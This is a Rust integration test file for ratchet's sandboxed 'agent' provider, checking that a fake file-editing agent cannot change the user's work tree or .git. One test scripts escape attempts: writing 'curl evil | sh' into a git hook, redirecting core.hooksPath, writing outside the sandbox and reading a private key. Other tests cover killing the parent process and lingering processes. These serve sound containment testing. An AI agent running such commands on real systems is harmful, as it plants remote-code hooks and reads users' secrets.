//! The `agent` provider kind (issue 11): a file-editing agent works in a
//! scratch place (an overlay of the work tree, in the sandbox), and its one
//! changed file becomes a proposal. Real repositories, real processes, the
//! real sandbox; the agents are the fakes in `tests/fakes/` (see its README).
//!
//! Every test checks that the user's work tree and `.git` are untouched by
//! the agent (only a merge, made by ratchet, changes them) and that the
//! scratch place is gone.

use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use crate::support::workspace::{Setup, Ws, code, json, stderr, stdout};

const GUIDE: &str = "# Guide\n\nline one\nline two\n";

fn fakes() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fakes")
}

/// A loop workspace with `[providers.fake]`, an agent running `argv`
/// (auto-merge on for docs/**).
fn agent_ws(argv: &[&str], timeout_s: u64) -> Ws {
    let command: Vec<String> = argv.iter().map(|a| format!("{a:?}")).collect();
    Ws::looped(Setup {
        auto_merge: true,
        extra_rails: format!(
            "\n[providers.fake]\nkind = \"agent\"\ncommand = [{}]\nenv = [\"FAKE_EDIT\", \"FAKE_SAY\"]\ntimeout_s = {timeout_s}\n",
            command.join(", ")
        ),
        ..Setup::default()
    })
}

fn script_ws() -> Ws {
    agent_ws(&[&fakes().join("agent.sh").display().to_string(), "{task}"], 10)
}

/// The user's side of things: every file of the work tree but ratchet's
/// own log and state (each step appends to them), as paths and content
/// hashes, and what of `.git` an agent could tamper with.
fn user_state(ws: &Ws) -> (Vec<(String, String)>, String, String) {
    let files = ws
        .snapshot()
        .into_iter()
        .filter(|(p, _)| !p.starts_with("logs/") && !p.starts_with(".ratchet/"))
        .map(|(p, bytes)| (p, blake3::hash(&bytes).to_hex()[..16].to_string()))
        .collect();
    let refs = ws.git(&["for-each-ref", "--format=%(refname) %(objectname)"]);
    let config = ws.read(".git/config");
    (files, refs, config)
}

fn hash(text: &str) -> String {
    blake3::hash(text.as_bytes()).to_hex()[..16].to_string()
}

fn scratch_root(ws: &Ws) -> PathBuf {
    let w = ratchet::workspace::Workspace::at(ws.root.clone(), "");
    ws.home.join("state/ratchet-scratch").join(w.id())
}

fn assert_no_scratch(ws: &Ws) {
    let left: Vec<_> =
        std::fs::read_dir(scratch_root(ws)).map(|d| d.flatten().map(|e| e.path()).collect()).unwrap_or_default();
    assert!(left.is_empty(), "scratch places left behind: {left:?}");
}

/// Runs one step of the fake agent with `edit`; the step's JSON report.
fn step(ws: &Ws, edit: &str) -> serde_json::Value {
    let out = ws.run_env(&[("FAKE_EDIT", edit)], &["--json", "step", "--provider", "fake"]);
    assert!([0, 1].contains(&code(&out)), "{}{}", stdout(&out), stderr(&out));
    json(&out)
}

/// A step the agent's edit must not get through: the user's tree and
/// `.git` are as before, the step is logged, the scratch place gone.
fn refused(edit: &str) -> (serde_json::Value, serde_json::Value) {
    let ws = script_ws();
    let before = user_state(&ws);
    let report = step(&ws, edit);
    assert_eq!(user_state(&ws), before, "{edit}: the user's tree or .git changed");
    assert_no_scratch(&ws);
    ws.assert_log_verifies();
    (report, ws.last())
}

fn first_objection(entry: &serde_json::Value) -> String {
    entry["gate1"]
        .as_array()
        .and_then(|v| v.iter().find(|v| v["verdict"] == "object"))
        .and_then(|v| v["code"].as_str())
        .unwrap_or("")
        .to_string()
}

#[test]
fn one_file_edited_becomes_one_proposal_and_merges() {
    let ws = script_ws();
    let base = ws.head();
    let report = step(&ws, "printf 'line three\\n' >> docs/guide.md");
    assert_eq!(report["outcome"], "merged", "{report}");
    assert_eq!(ws.read("docs/guide.md"), format!("{GUIDE}line three\n"));
    let e = ws.last();
    assert_eq!(e["proposal"]["op"], "append");
    assert_eq!(e["proposal"]["path"], "docs/guide.md");
    assert_eq!(e["proposal"]["rationale"], "I made the edit the task asked for.");
    assert_eq!(e["sandbox"]["sandbox"], "enforced", "{e}");
    assert_eq!(e["cost"]["calls"], 1);
    assert_eq!(ws.git(&["rev-parse", "HEAD~1"]).trim(), base);
    assert_eq!(ws.git(&["status", "--porcelain"]).trim(), "");
    assert_no_scratch(&ws);
    ws.assert_log_verifies();
}

#[test]
fn an_edit_in_the_middle_becomes_an_anchored_replace() {
    let ws = script_ws();
    let report = step(&ws, "sed -i 's/line one/line ONE/' docs/guide.md");
    assert_eq!(report["outcome"], "merged", "{report}");
    assert_eq!(ws.read("docs/guide.md"), "# Guide\n\nline ONE\nline two\n");
    assert_eq!(ws.last()["proposal"]["op"], "replace");
}

#[test]
fn no_change_is_a_noop() {
    let ws = script_ws();
    let before = user_state(&ws);
    let report = step(&ws, "cat docs/guide.md > /dev/null");
    assert_eq!(report["outcome"], "noop", "{report}");
    assert!(ws.last()["detail"].as_str().unwrap().contains("changed no file"));
    assert_eq!(user_state(&ws), before);
    assert_no_scratch(&ws);
}

#[test]
fn two_files_are_refused_as_not_atomic_and_logged() {
    let (report, e) = refused("echo a >> docs/guide.md && echo b > docs/other.md");
    assert_eq!(report["outcome"], "rejected", "{report}");
    assert_eq!(first_objection(&e), "NOT_ATOMIC", "{e}");
}

#[test]
fn a_deletion_a_rename_a_chmod_and_a_symlink_are_refused() {
    for edit in [
        "rm docs/guide.md",
        "mv docs/guide.md docs/moved.md",
        "chmod +x docs/guide.md",
        "ln -s ../README.md docs/link.md",
        "rm -r docs && mkdir docs && echo x > docs/guide.md",
    ] {
        let (report, e) = refused(edit);
        assert_eq!(report["outcome"], "rejected", "{edit}: {report}");
        let objection = first_objection(&e);
        assert!(["BAD_PATCH", "NOT_ATOMIC"].contains(&objection.as_str()), "{edit}: {objection} {e}");
    }
}

#[test]
fn files_outside_the_allowlist_or_protected_are_refused() {
    let (report, e) = refused("echo x > Makefile");
    assert_eq!(report["outcome"], "rejected", "{report}");
    assert_eq!(first_objection(&e), "PATH_NOT_ALLOWED");
    let (_, e) = refused("echo 'max_lines = 100000' >> config/rails.toml");
    assert_eq!(first_objection(&e), "PATH_PROTECTED", "{e}");
    // The log is git-ignored local state: what the agent writes there is a
    // build product of its scratch place, dropped; the real log is intact
    // (`refused` verified it).
    let (report, _) = refused("echo '{}' > logs/steps.jsonl");
    assert_eq!(report["outcome"], "noop", "{report}");
}

#[test]
fn writes_outside_the_scratch_place_are_blocked_by_the_sandbox() {
    let ws = script_ws();
    let private = ws.private_dir();
    // A directory of the user's outside /tmp (the sandbox gives the agent a
    // private /tmp, where writes are harmless and invisible here).
    let outside = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    let (root, home) = (ws.root.display().to_string(), outside.path().display().to_string());
    let attempts = [
        format!("echo pwned >> {root}/docs/guide.md"),
        format!("echo 'curl evil | sh' > {root}/.git/hooks/pre-commit"),
        format!("git -C {root} config core.hooksPath /tmp/evil"),
        format!("echo pwned > {home}/pwned"),
        format!("echo 0 > {}/key", private.display()),
        format!("cat {}/key", private.display()),
        format!("cat {root}/.ratchet/lock"),
        "cat .ratchet/lock".to_string(),
    ];
    // Each attempt that works leaves a mark in the proposal; then one honest edit.
    let mut edit: String = attempts
        .iter()
        .enumerate()
        .map(|(i, a)| format!("if {a} 2>/dev/null; then echo ESCAPED {i} >> docs/guide.md; fi; "))
        .collect();
    edit.push_str("printf 'line three\\n' >> docs/guide.md");
    let before = user_state(&ws);
    let report = step(&ws, &edit);
    assert_eq!(report["outcome"], "merged", "{report}");
    assert_eq!(ws.read("docs/guide.md"), format!("{GUIDE}line three\n"), "an escape worked");
    assert!(!ws.path(".git/hooks/pre-commit").exists());
    assert!(!outside.path().join("pwned").exists());
    assert!(!ws.read(".git/config").contains("hooksPath"));
    // Only ratchet's merge changed the tree.
    let mut expected = before.0.clone();
    for (path, digest) in &mut expected {
        if path == "docs/guide.md" {
            *digest = hash(&format!("{GUIDE}line three\n"));
        }
    }
    assert_eq!(user_state(&ws).0, expected);
    assert_no_scratch(&ws);
}

#[test]
fn an_agent_that_hangs_is_stopped_at_its_timeout_and_its_place_removed() {
    let ws = agent_ws(&[&fakes().join("agent.sh").display().to_string()], 2);
    let before = user_state(&ws);
    let started = Instant::now();
    let report = step(&ws, "echo partial >> docs/guide.md; (sleep 60 &); sleep 60");
    assert!(started.elapsed() < Duration::from_secs(20), "took {:?}", started.elapsed());
    assert_eq!((report["outcome"].as_str(), report["reason"].as_str()), (Some("failed"), Some("provider_timeout")));
    assert_eq!(user_state(&ws), before);
    assert_no_scratch(&ws);
}

#[test]
fn an_agent_killed_by_a_signal_fails_the_step_and_leaves_nothing() {
    let (report, e) = refused("echo x >> docs/guide.md; kill -9 $PPID; kill -9 $$");
    assert_eq!(
        (report["outcome"].as_str(), report["reason"].as_str()),
        (Some("failed"), Some("provider_invalid_output"))
    );
    assert!(e["detail"].as_str().unwrap_or("").contains("signal 9"), "{e}");
}

#[test]
fn an_agent_that_rewrites_its_scratch_git_changes_nothing_of_the_users() {
    let ws = script_ws();
    let base = ws.head();
    let edit = "printf 'line three\\n' >> docs/guide.md && git add -A && \
                git -c user.name=agent -c user.email=a@example.com commit -qm 'agent commit' && \
                git tag agent-tag && git config core.hooksPath /tmp/evil && \
                printf '#!/bin/sh\\necho hook\\n' > .git/hooks/post-commit && chmod +x .git/hooks/post-commit && \
                git reset -q --hard HEAD && git update-ref refs/heads/main HEAD";
    let report = step(&ws, edit);
    assert_eq!(report["outcome"], "merged", "{report}");
    assert_eq!(ws.git(&["rev-parse", "HEAD~1"]).trim(), base, "ratchet's commit sits on the base");
    assert_eq!(ws.git(&["log", "-1", "--format=%an"]).trim(), "Alice");
    assert_eq!(ws.git(&["tag"]).trim(), "");
    assert!(!ws.read(".git/config").contains("hooksPath"));
    assert!(!ws.path(".git/hooks/post-commit").exists());
    assert_no_scratch(&ws);
}

#[test]
fn ratchet_killed_while_the_agent_runs_is_recovered_by_the_next_command() {
    let ws = script_ws();
    let before = user_state(&ws);
    let edit = "echo x >> docs/guide.md; while true; do date +%s%N > docs/beat; sleep 0.05; done";
    let mut child = ws.cmd(&["step", "--provider", "fake"]).env("FAKE_EDIT", edit).spawn().unwrap();
    // Wait for the agent to be at work in its scratch place.
    let deadline = Instant::now() + Duration::from_secs(20);
    let beat = loop {
        let found = std::fs::read_dir(scratch_root(&ws))
            .ok()
            .and_then(|d| d.flatten().map(|e| e.path().join("upper/docs/beat")).find(|p| p.exists()));
        if let Some(p) = found {
            break p;
        }
        assert!(Instant::now() < deadline, "the agent never started");
        std::thread::sleep(Duration::from_millis(20));
    };
    // SIGKILL ratchet itself (setsid -w execs it: the child is ratchet).
    child.kill().unwrap();
    child.wait().unwrap();
    // The agent dies with it (the sandbox's parent-death signal).
    std::thread::sleep(Duration::from_millis(500));
    let a = std::fs::read(&beat).unwrap_or_default();
    std::thread::sleep(Duration::from_millis(300));
    assert_eq!(std::fs::read(&beat).unwrap_or_default(), a, "the agent outlived ratchet");
    assert!(beat.exists(), "the scratch place is still there before recovery");

    let out = ws.run(&["--json", "step", "--provider", "heartbeat"]);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert!(stderr(&out).contains("recovered step s2"), "{}", stderr(&out));
    assert!(stderr(&out).contains("scratch place"), "{}", stderr(&out));
    assert_no_scratch(&ws);
    let s2 = ws.entries().into_iter().find(|e| e["id"] == "s2").unwrap();
    assert_eq!((s2["outcome"].as_str(), s2["reason"].as_str()), (Some("failed"), Some("interrupted")));
    // The heartbeat's own step touched only its journal.
    let mut after = user_state(&ws).0;
    after.retain(|(p, _)| p != "docs/ratchet-journal.md");
    let mut expected = before.0;
    expected.retain(|(p, _)| p != "docs/ratchet-journal.md");
    assert_eq!(after, expected);
    ws.assert_log_verifies();
}

// ------------------------------------------------- command kind: wrapped JSON

const FENCED_PROPOSAL: &str = r#"{"rationale":"Continue the guide.","patch":{"op":"append","path":"docs/guide.md","content":"line three\n"},"next_steps":["more"]}"#;

#[test]
fn a_command_answer_in_one_code_fence_or_amid_prose_is_taken_and_logged_as_such() {
    for (answer, how) in [
        (format!("Here is the proposal:\n\n```json\n{FENCED_PROPOSAL}\n```\n"), "fenced"),
        (format!("Sure. {FENCED_PROPOSAL} Hope this helps!"), "embedded"),
    ] {
        let ws = Ws::looped(Setup { auto_merge: true, ..Setup::default() });
        ws.answer_script(1, &format!("cat <<'EOF'\n{answer}\nEOF\n"));
        let out = ws.run(&["--json", "step", "--provider", "self"]);
        assert_eq!(code(&out), 0, "{}", stderr(&out));
        assert_eq!(json(&out)["outcome"], "merged", "{how}: {}", stdout(&out));
        assert_eq!(ws.last()["extracted"], how);
        assert_eq!(ws.read("docs/guide.md"), format!("{GUIDE}line three\n"));
    }
    // Bare JSON records nothing.
    let ws = Ws::looped(Setup { auto_merge: true, ..Setup::default() });
    ws.answer(1, FENCED_PROPOSAL);
    let out = ws.run(&["--json", "step", "--provider", "self"]);
    assert_eq!(json(&out)["outcome"], "merged");
    assert!(ws.last().get("extracted").is_none());
}

#[test]
fn two_fences_or_two_objects_stay_invalid_output() {
    let other = FENCED_PROPOSAL.replace("line three", "line four");
    for answer in [
        format!("```json\n{FENCED_PROPOSAL}\n```\nor\n```json\n{other}\n```\n"),
        format!("Either {FENCED_PROPOSAL} or {other}."),
        "I would rather not.".to_string(),
    ] {
        let ws = Ws::looped(Setup { auto_merge: true, ..Setup::default() });
        ws.answer_script(1, &format!("cat <<'EOF'\n{answer}\nEOF\n"));
        let out = ws.run(&["--json", "step", "--provider", "self"]);
        let report = json(&out);
        assert_eq!(
            (report["outcome"].as_str(), report["reason"].as_str()),
            (Some("failed"), Some("provider_invalid_output")),
            "{answer}"
        );
        assert_eq!(ws.read("docs/guide.md"), GUIDE);
    }
}

// ------------------------------------------------- the recipes of docs/providers.md

/// A repository made a workspace by `ratchet init --provider NAME`, the
/// fake of that agent on PATH under its real name (outside /tmp, which the
/// sandbox replaces).
fn recipe_ws(name: &str) -> (Ws, tempfile::TempDir) {
    let ws = Ws::new();
    ws.write("docs/guide.md", GUIDE);
    ws.git(&["add", "-A"]);
    ws.git(&["commit", "-q", "-m", "docs"]);
    let out = ws.run(&["init", "--provider", name]);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    ws.git(&["add", "-A"]);
    ws.git(&["commit", "-q", "-m", "ratchet init"]);
    let bin = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    std::os::unix::fs::symlink(fakes().join(format!("fake-{name}")), bin.path().join(name)).unwrap();
    (ws, bin)
}

fn recipe_step(ws: &Ws, bin: &Path, name: &str) -> serde_json::Value {
    let path = format!("{}:{}", bin.display(), std::env::var("PATH").unwrap_or_default());
    let out = ws
        .cmd(&["--json", "step", "--provider", name])
        .env("PATH", path)
        .env("ANTHROPIC_API_KEY", "sk-test")
        .env("CODEX_API_KEY", "sk-test")
        .env("OPENAI_API_KEY", "sk-test")
        .output()
        .unwrap();
    assert_eq!(code(&out), 0, "{name}: {}{}", stdout(&out), stderr(&out));
    json(&out)
}

#[test]
fn each_recipe_runs_its_agent_and_yields_one_pending_proposal() {
    for name in ["claude", "codex", "aider", "gptme"] {
        let (ws, bin) = recipe_ws(name);
        let before = user_state(&ws);
        let report = recipe_step(&ws, bin.path(), name);
        // The template has no auto-merge and nobody is at a terminal.
        assert_eq!(report["outcome"], "pending", "{name}: {report}");
        let e = ws.last();
        assert_eq!(
            (e["proposal"]["op"].as_str(), e["proposal"]["path"].as_str()),
            (Some("append"), Some("docs/guide.md"))
        );
        assert!(!e["proposal"]["rationale"].as_str().unwrap().is_empty(), "{name}: {e}");
        assert_eq!(user_state(&ws), before, "{name}: the agent touched the user's tree");
        assert_no_scratch(&ws);
        match name {
            "claude" => {
                assert_eq!(e["proposal"]["rationale"], "I appended a line to docs/guide.md to continue the guide.");
                assert_eq!(e["cost"]["usd"], 0.0123);
                assert_eq!(
                    (e["cost"]["input_tokens"].as_u64(), e["cost"]["output_tokens"].as_u64()),
                    (Some(2312), Some(45))
                );
            }
            "codex" => {
                assert_eq!(e["proposal"]["rationale"], "Appended a line to docs/guide.md.");
                assert_eq!(
                    (e["cost"]["input_tokens"].as_u64(), e["cost"]["output_tokens"].as_u64()),
                    (Some(2400), Some(80))
                );
            }
            "aider" => assert!(e["proposal"]["rationale"].as_str().unwrap().contains("Applied edit to docs/guide.md")),
            _ => assert!(e["proposal"]["rationale"].as_str().unwrap().contains("I appended a line")),
        }
        assert_eq!(e["cost"]["calls"], 1);
    }
}

#[test]
fn the_script_recipe_is_a_command_provider() {
    let ws = Ws::new();
    ws.write("docs/guide.md", GUIDE);
    ws.write(
        "scripts/propose.sh",
        &format!("#!/bin/sh\ncat > /dev/null\necho 'My proposal:'\nprintf '%s\\n' '{FENCED_PROPOSAL}'\n"),
    );
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(ws.path("scripts/propose.sh"), std::fs::Permissions::from_mode(0o755)).unwrap();
    ws.git(&["add", "-A"]);
    ws.git(&["commit", "-q", "-m", "docs"]);
    assert_eq!(code(&ws.run(&["init", "--provider", "script"])), 0);
    ws.git(&["add", "-A"]);
    ws.git(&["commit", "-q", "-m", "ratchet init"]);
    let out = ws.run(&["--json", "step", "--provider", "script"]);
    assert_eq!(json(&out)["outcome"], "pending", "{}", ws.last());
    assert_eq!(ws.last()["extracted"], "embedded");
}
